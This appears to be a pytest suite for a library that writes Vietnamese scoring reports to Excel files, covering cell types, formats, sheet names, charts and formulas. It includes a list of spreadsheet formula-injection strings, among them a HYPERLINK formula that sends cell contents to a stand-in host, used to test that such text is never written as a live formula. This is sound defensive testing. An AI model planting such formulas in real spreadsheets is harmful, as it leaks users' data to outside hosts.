"""Excel files, read back with another library: what sort each cell is, and how the sheet shows and prints."""

import io
import sys
import zipfile
from dataclasses import replace
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import pytest

import ctscore
from ctscore.book import Book
from ctscore.decimals import ONE, ZERO
from ctscore.document import Kind, Ranking, Ref, Row, Series, Value
from ctscore.findings import Refusal
from ctscore.formulas import EMPTY, Cell, Cells, Formula, apply, runs
from ctscore.model import Text
from ctscore.phrases import OnDay, Words
from ctscore.render import Canvas, render
from ctscore.render.excel.files import MOST_LETTERS, new_book, sheet_names
from ctscore.render.excel.formulas import TablePlace, written
from ctscore.views.gaps import gaps_document
from ctscore.views.totals import tree_document
from tests.render.excel import column, document, one_row, opened, table

HOSTILE = (
    '=HYPERLINK("http://a.example/?x="&A1,"bấm")',
    "=1+1",
    "{=1+1}",
    "+1",
    "-2",
    "@x",
    "\t=1",
    "\r\n=1",
    "  =1",
    "http://a.example",
    "1.10",
    "9.10",
    "2022-01-02",
    "TRUE",
    "#REF!",
)


def rendered(*sections: Any) -> bytes:
    return render(document(*sections), "xlsx", Canvas(), "vi")


def sheet(*sections: Any, values: bool = False) -> Any:
    return opened(rendered(*sections), values=values).worksheets[0]


@pytest.fixture(scope="module")
def gaps(book: Book) -> Any:
    """The losses of PAR-INDEX 2022 in Vietnamese, as they are read back."""
    found = gaps_document(book, ctscore.gaps(book, 2022, "PAR-INDEX"))
    return opened(render(found, "xlsx", Canvas(), "vi")).worksheets[0]


@pytest.mark.parametrize(
    ("lang", "title", "heads"),
    [
        ("vi", "điểm mất theo tiêu chí", ["Mã", "Tiêu chí", "Điểm mất"]),
        ("en", "points lost by criterion", ["Code", "Criterion", "Lost"]),
    ],
)
def test_a_table_speaks_the_language_asked_for(lang: str, title: str, heads: list[str], book: Book) -> None:
    found = gaps_document(book, ctscore.gaps(book, 2022, "PAR-INDEX"))
    sheet = opened(render(found, "xlsx", Canvas(), lang)).worksheets[0]
    assert title in sheet["A1"].value
    labels = [cell.value for cell in sheet[2]]
    assert [label for label in labels if label in heads] == heads
    other = {"Mã", "Tiêu chí", "Điểm mất", "Code", "Criterion", "Lost"} - set(heads)
    assert not other & set(labels)


def test_each_kind_of_value_is_a_cell_of_its_sort() -> None:
    kinds = [*Kind]
    values: dict[Kind, Value] = {
        Kind.CODE: "9.10",
        Kind.TEXT: "chữ",
        Kind.POINTS: Decimal("0.709967554"),
        Kind.CHANGE: Decimal("-0.5"),
        Kind.PERCENT: Decimal("12.5"),
        Kind.COUNT: 63,
        Kind.DATE: date(2023, 6, 6),
        Kind.REF: Ref("so-noi-vu", "Sở Nội vụ"),
        Kind.REFS: (Ref("a", "Sở A"), Ref("b", "Sở B")),
    }
    row = Row({kind.value: values[kind] for kind in kinds})
    cells = sheet(table([column(kind.value, kind) for kind in kinds], row))[3][: len(kinds)]
    assert [(cell.data_type, cell.value, cell.number_format) for cell in cells] == [
        ("s", "9.10", "@"),
        ("s", "chữ", "General"),
        ("n", 0.709967554, "0.0000_0"),
        ("n", -0.5, "+0.0000_0;-0.0000_0;0.0000_0"),
        ("n", 0.125, "0.00%_0"),
        ("n", 63, "0_0"),
        ("d", datetime(2023, 6, 6), "dd/mm/yyyy"),
        ("s", "Sở Nội vụ", "General"),
        ("s", "Sở A; Sở B", "General"),
    ]


def test_words_that_end_with_a_day_keep_the_day() -> None:
    value = OnDay(Words("Hạn ", "By "), date(2023, 6, 6), Words("06/06/2023", "2023-06-06"))
    cell = sheet(table([column("a", Kind.TEXT)], one_row(a=value)))["A3"]
    assert (cell.value, cell.number_format) == (datetime(2023, 6, 6), '"Hạn "dd/mm/yyyy')
    assert value.say("en") == "By 2023-06-06"


def test_figures_as_printed_keep_the_digits_of_the_source() -> None:
    columns = [column("a", Kind.POINTS, as_printed=True)]
    cells = sheet(table(columns, *(one_row(a=Decimal(text)) for text in ("79.10", "86.11", "4"))))["A"][2:]
    assert [(cell.value, cell.number_format) for cell in cells] == [
        (79.1, "0.00_0"),
        (86.11, "0.00_0"),
        (4, "0_0"),
    ]


def test_what_is_not_known_is_an_empty_cell() -> None:
    columns = [column("a", Kind.CODE), column("b", Kind.POINTS)]
    found = sheet(table(columns, one_row(a="1", b=None), one_row(a="2", b=Decimal(0))))
    assert (found["B3"].value, found["B4"].value) == (None, 0)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("kind", [Kind.TEXT, Kind.CODE, Kind.REF, Kind.REFS])
def test_text_is_never_a_formula_a_number_or_a_link(text: str, kind: Kind) -> None:
    others: dict[Kind, Value] = {Kind.REF: Ref("x", text), Kind.REFS: (Ref("x", text),)}
    section = table([column("a", kind)], one_row(a=others.get(kind, text)), title=text, notes=[text])
    section = replace(section, columns=(replace(section.columns[0], label=text),))
    book = opened(rendered(section, replace(section, layout="record")))
    for found in book.worksheets:
        cells = [cell for row in found.iter_rows() for cell in row if cell.value is not None]
        assert len(cells) == 4  # title, header or label, value, note
        assert {cell.data_type for cell in cells} == {"s"}
        assert {" ".join(cell.value.split()) for cell in cells} == {" ".join(text.split())}
        assert not any(cell.hyperlink for cell in cells)
        begins = text.lstrip()[0] in "=+-@"
        assert {bool(cell.quotePrefix) for cell in cells} == {begins}


def test_no_part_of_the_file_holds_a_formula_or_link_where_names_look_like_one() -> None:
    section = table([column("a", Kind.TEXT)], *(one_row(a=text) for text in HOSTILE))
    with zipfile.ZipFile(io.BytesIO(rendered(section))) as parts:
        text = b"".join(parts.read(name) for name in parts.namelist() if "worksheets" in name)
    assert b"<f>" not in text
    assert b"hyperlink" not in text.lower()


@pytest.mark.parametrize("odd", ["\x00", "\x07", "\x1b[31m", "\ufffe", "\uffff", "\ud800", "\u202e", "\x85"])
def test_control_characters_do_not_break_the_file(odd: str) -> None:
    section = table([column("a", Kind.TEXT)], one_row(a=f"trước{odd}sau"), title=f"T{odd}", notes=[odd])
    value = sheet(section)["A3"].value
    assert value.startswith("trước")
    assert value.endswith("sau")
    assert odd not in value


def test_what_looks_like_an_escape_is_kept_as_it_is() -> None:
    with zipfile.ZipFile(
        io.BytesIO(rendered(table([column("a", Kind.TEXT)], one_row(a="_x0041_"))))
    ) as parts:
        assert b"_x005F_x0041_" in parts.read("xl/sharedStrings.xml")


def test_text_too_long_for_a_cell_is_cut_and_says_so() -> None:
    columns = [column("a", Kind.TEXT)]
    found = sheet(
        table(columns, one_row(a="ă" * MOST_LETTERS), one_row(a="ă" * 40_000), one_row(a="😀" * 20_000))
    )
    whole, long, wide = (found[f"A{row}"].value for row in (3, 4, 5))
    assert whole == "ă" * 32_767
    assert long == "ă" * 32_766 + "…"
    assert wide == "😀" * 16_383 + "…"


def test_names_of_sheets_are_those_that_excel_takes() -> None:
    wanted = ["A/B: [C]*?\\", "History", "", "'x'", "Ten", "TEN", "ten", "dài" * 20, "dài" * 20, "😀" * 20]
    names = sheet_names(wanted)
    assert names[:7] == ["A B   C", "History (2)", "–", "x", "Ten", "TEN (2)", "ten (3)"]
    assert names[7] == "dài" * 10 + "…"
    assert names[8] == ("dài" * 10)[:26] + "… (2)"
    assert all(len(name.encode("utf-16-le")) <= 62 for name in names)
    sections = [table([column("a", Kind.TEXT)], title=title) for title in wanted]
    assert opened(rendered(*sections)).sheetnames == names


def test_the_same_answer_is_the_same_file(book: Book) -> None:
    found = gaps_document(book, ctscore.gaps(book, 2022))
    assert render(found, "xlsx", Canvas(), "vi") == render(
        found, "xlsx", Canvas(80, colour=True, boxes=True), "vi"
    )


def test_the_largest_loss_stands_first(gaps: Any) -> None:
    """5.4 lost all of its 1.5 points: 1.5 / 13.3876 = 11.2044… percent of all loss."""
    header = [cell.value for cell in gaps[2]]
    row = dict(zip(header, (cell.value for cell in gaps[3]), strict=True))
    assert (row["Mã"], row["Điểm chuẩn"], row["Điểm đạt"], row["Điểm mất"]) == ("5.4", 1.5, 0, 1.5)
    assert row["% tổng mất"] == pytest.approx(0.112044, abs=1e-6)
    assert row["Chủ trì"] == "Sở Nội vụ"
    assert sum(cell.value for cell in gaps["F"][2:44]) == pytest.approx(13.3876, abs=1e-9)
    assert gaps["A46"].value == "42 tiêu chí mất 13,3876 điểm."


def test_a_sheet_is_ready_to_be_filtered_and_printed(gaps: Any) -> None:
    assert gaps.title == "PAR-INDEX 2022 · Cần Thơ · điể…"
    assert gaps.freeze_panes == "A3"
    assert gaps.auto_filter.ref == "A2:K44"
    assert gaps.print_title_rows == "$2:$2"
    assert (gaps.page_setup.orientation, gaps.page_setup.paperSize) == ("landscape", 9)
    assert (gaps.sheet_properties.pageSetUpPr.fitToPage, gaps.page_setup.fitToHeight) == (True, 0)
    (rule,) = gaps.conditional_formatting
    assert str(rule.sqref) == "F3:F44"
    assert rule.rules[0].type == "dataBar"


def test_no_bar_stands_beside_the_whole(book: Book) -> None:
    found = tree_document(book, ctscore.totals(book, 2022, "PAR-INDEX", depth=9))
    tree = opened(render(found, "xlsx", Canvas(), "en")).worksheets[0]
    (rule,) = tree.conditional_formatting
    assert str(rule.sqref) == "E4:E54"
    assert [tree[f"B{row}"].alignment.indent for row in (3, 4, 5, 6)] == [1, 2, 3, 4]
    assert [tree[f"B{row}"].font.b for row in (3, 4, 5, 6)] == [True, True, False, False]


def test_rows_are_high_enough_for_their_names(book: Book) -> None:
    """At 15 points a line, and at nine tenths of the unit of width for a letter of the usual font."""
    found = tree_document(book, ctscore.totals(book, 2022, depth=9))
    for tree in opened(render(found, "xlsx", Canvas(), "vi")).worksheets:
        width = tree.column_dimensions["B"].width
        for row in range(3, tree.max_row + 1):
            name = tree[f"B{row}"].value
            if name is None:
                continue  # below the table
            fits = tree.row_dimensions[row].height // 15 * width
            assert fits >= 0.9 * len(name), name


def test_figures_and_codes_are_never_cut(gaps: Any) -> None:
    for letter, longest in {"B": "8.1.4", "D": "1.5000", "F": "1.5000", "H": "100.00%"}.items():
        assert gaps.column_dimensions[letter].width >= len(longest) + 1


def test_columns_for_programs_and_empty_ones_are_left_out() -> None:
    columns = [
        column("a", Kind.CODE),
        column("b", Kind.TEXT, machine_only=True),
        column("c", Kind.POINTS, drop_priority=1),
    ]
    found = sheet(table(columns, one_row(a="1", b="x", c=None)))
    assert [cell.value for cell in found[2] if cell.value] == ["a"]


def test_a_record_is_read_downwards() -> None:
    columns = [column("mã", Kind.CODE), column("điểm", Kind.POINTS), column("thiếu", Kind.TEXT)]
    section = replace(table(columns, one_row(mã="2.4", điểm=Decimal("3.5")), notes=["hết"]), layout="record")
    found = sheet(replace(section, rows=(*section.rows, *section.rows)))
    assert [(row[0].value, row[1].value) for row in found.iter_rows(min_row=2, max_col=2)] == [
        ("mã", "2.4"),
        ("điểm", 3.5),
        (None, None),
        ("mã", "2.4"),
        ("điểm", 3.5),
        (None, None),
        ("hết", None),
    ]
    assert found.auto_filter.ref is None


def test_a_section_without_rows_has_its_notes() -> None:
    found = sheet(table([column("a", Kind.CODE)], notes=["Không có số liệu."]))
    assert [row[0].value for row in found.iter_rows(max_col=1)] == ["T", "Không có số liệu."]


def charts(section: Any) -> list[tuple[str, str, list[str]]]:
    """The sort of each chart, and the cells that it is drawn from: names, then figures."""
    found = opened(rendered(section)).worksheets
    return [
        (
            part.tagname,
            (part.ser[0].cat.strRef or part.ser[0].cat.numRef).f,
            [one.val.numRef.f for one in part.ser],
        )
        for sheet in found
        for chart in sheet._charts
        for part in (chart, *chart._charts[1:])
    ]


def test_a_series_is_a_line_for_each_scale() -> None:
    years = zip(range(2016, 2023), (1, 2, 3, 1, None, 2, 9), strict=True)
    rows = (one_row(y=str(year), a=None if points is None else Decimal(points)) for year, points in years)
    section = table([column("y", Kind.CODE), column("a", Kind.POINTS)], *rows)
    section = replace(section, chart=Series("2016–2022", "y", "a", breaks=(3, 6), gaps=(1,)))
    assert charts(section) == [
        ("lineChart", "T!$A$3:$A$5", ["T!$B$3:$B$5"]),
        ("lineChart", "T!$A$6:$A$8", ["T!$B$6:$B$8"]),  # the last scale has one figure, which is no line
    ]


def ranked(*figures: int | None, running: str = "") -> Any:
    columns = [column("n", Kind.TEXT), column("a", Kind.POINTS), column("r", Kind.PERCENT)]
    rows = [
        one_row(n=f"Sở {at}", a=None if one is None else Decimal(one), r=None if one is None else Decimal(9))
        for at, one in enumerate(figures)
    ]
    return replace(table(columns, *rows), chart=Ranking("n", "a", running))


def test_a_ranking_is_drawn_from_its_cells() -> None:
    assert charts(ranked(5, 3, -1)) == [("barChart", "T!$A$3:$A$5", ["T!$B$3:$B$5"])]
    assert charts(ranked(5, 3, None, running="r")) == [
        ("barChart", "T!$A$3:$A$4", ["T!$B$3:$B$4"]),
        ("lineChart", "T!$A$3:$A$4", ["T!$C$3:$C$4"]),
    ]
    assert charts(ranked(5, None)) == []


def test_a_ranking_of_many_says_how_many_it_draws() -> None:
    drawn = opened(rendered(ranked(*range(100, 60, -1))))["Biểu đồ"]._charts[0]
    assert drawn.ser[0].val.numRef.f == "T!$B$3:$B$32"
    title = drawn.title.tx.rich.p[0].r[0].t
    assert title == "T (30 dòng đầu trong 40)"


def wide(columns: int) -> Any:
    """A table with a name and so many columns of figures."""
    ids = [f"c{at}" for at in range(columns)]
    row = one_row(name="Sở Nội vụ", **dict.fromkeys(ids, Decimal("12.3456")))
    return sheet(table([column("name", Kind.TEXT), *(column(id_, Kind.POINTS) for id_ in ids)], row))


def test_a_table_is_one_page_wide_as_long_as_it_can_be_read() -> None:
    narrow, broad = wide(9), wide(40)
    assert (narrow.sheet_properties.pageSetUpPr.fitToPage, narrow.page_setup.fitToHeight) == (True, 0)
    assert narrow.print_title_cols is None
    assert (broad.page_setup.scale, broad.print_title_cols) == (74, "$A:$A")  # 74% of 11 points are 8


def test_figures_keep_off_the_words_beside_them() -> None:
    section = table([column("a", Kind.POINTS), column("b", Kind.TEXT)], one_row(a=Decimal(1), b="chữ"))
    figure, text = sheet(section)[3][:2]
    assert (figure.alignment.horizontal, figure.number_format) == ("right", "0.0000_0")
    assert (text.alignment.horizontal, text.alignment.indent) == ("left", 1)
    assert {(cell.font.name, cell.font.sz) for cell in (figure, text)} == {("Times New Roman", 11)}


def test_every_page_says_what_it_is_of() -> None:
    found = sheet(replace(table([column("a", Kind.TEXT)], one_row(a="x")), title="R&D"))
    assert found.oddFooter.left.text == "R&&D"
    assert found.oddFooter.right.text == "Trang &P/&N"


def test_a_formula_keeps_the_figure_that_it_comes_to() -> None:
    columns = [column("a", Kind.POINTS), column("b", Kind.POINTS), column("c", Kind.PERCENT)]
    whole = Row(
        {"a": Decimal("0.3"), "b": Decimal("0.2"), "c": Decimal(100)},
        formulas={
            "a": apply("SUM", Cells("a", (1, 2))),
            "b": apply("-", Cell("a", 0), Cell("b", 0)),
            "c": apply("IF", apply("=", Cell("a", 0), ZERO), ZERO, apply("/", Cell("a", 0), Cell("a", 0))),
        },
    )
    parts = [one_row(a=Decimal("0.1"), b=None, c=None), one_row(a=Decimal("0.2"), b=None, c=None)]
    section = table(columns, whole, *parts)
    live, kept = sheet(section), sheet(section, values=True)
    assert [cell.value for cell in live[3][:3]] == ["=SUM(A4:A5)", "=A3-B3", "=IF(A3=0,0,A3/A3)"]
    assert [cell.value for cell in kept[3][:3]] == [0.3, 0.2, 1]
    assert [cell.number_format for cell in live[3][:3]] == ["0.0000_0", "0.0000_0", "0.00%_0"]


def test_other_formats_write_the_figure_and_not_the_formula() -> None:
    row = Row({"a": Decimal("0.3")}, formulas={"a": apply("SUM", Cells("a", (1,)))})
    section = table([column("a", Kind.POINTS)], row, one_row(a=Decimal("0.3")))
    assert render(document(section), "csv", Canvas(), "vi") == "section,a\nt,0.3\nt,0.3\n"


def test_a_formula_that_says_nothing_yet_is_kept_as_words_without_letters() -> None:
    row = Row(
        {"a": None, "b": None}, formulas={"a": apply("IF", apply("=", Cell("b", 0), EMPTY), EMPTY, ONE)}
    )
    section = table([column("a", Kind.POINTS), column("b", Kind.POINTS)], row, one_row(a=ONE, b=ONE))
    assert sheet(section)["A3"].value == '=IF(B3="","",1)'
    assert not sheet(section, values=True)["A3"].value


def test_runs_of_rows_are_written_as_ranges() -> None:
    assert list(runs((1, 2, 3, 5, 7, 8))) == [(1, 3), (5, 5), (7, 8)]
    assert spelled(apply("SUM", Cells("max", (1, 2, 3, 5)))) == "=SUM(B5:B7,B9)"


def test_operators_have_brackets_where_they_bind_otherwise() -> None:
    first, second = Cell("code", 0), Cell("max", 0)
    added, taken = apply("+", first, second), apply("-", first, second)
    assert spelled(apply("*", added, taken)) == "=(A4+B4)*(A4-B4)"
    assert spelled(apply("-", taken, added)) == "=A4-B4-(A4+B4)"
    assert spelled(apply("/", apply("*", first, Decimal("2.50")), second)) == "=A4*2.5/B4"
    assert spelled(apply("=", added, Text(vi='nói "có"', en="yes"))) == '=A4+B4="nói ""có"""'


def spelled(formula: Formula) -> str:
    return written(formula, TablePlace(("code", "max"), 4), "vi")


def test_without_the_library_the_refusal_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    with pytest.raises(Refusal) as refused:
        rendered(table([column("a", Kind.TEXT)], one_row(a="x")))
    assert refused.value.text("en") == (
        'the format xlsx needs the library XlsxWriter\ninstall it: pip install "ctscore[excel]"'
    )


def test_a_file_has_a_title_only_where_one_is_given() -> None:
    def core(title: str) -> bytes:
        stream = io.BytesIO()
        book = new_book(stream, Words("tệp", "a file"), title)
        book.add_worksheet()
        book.close()
        with zipfile.ZipFile(stream) as parts:
            return parts.read("docProps/core.xml")

    assert b"<dc:title>Tan</dc:title>" in core("Tan")
    assert b"title" not in core("")
    assert core("").count(b"1980-01-01T00:00:00Z") == 2
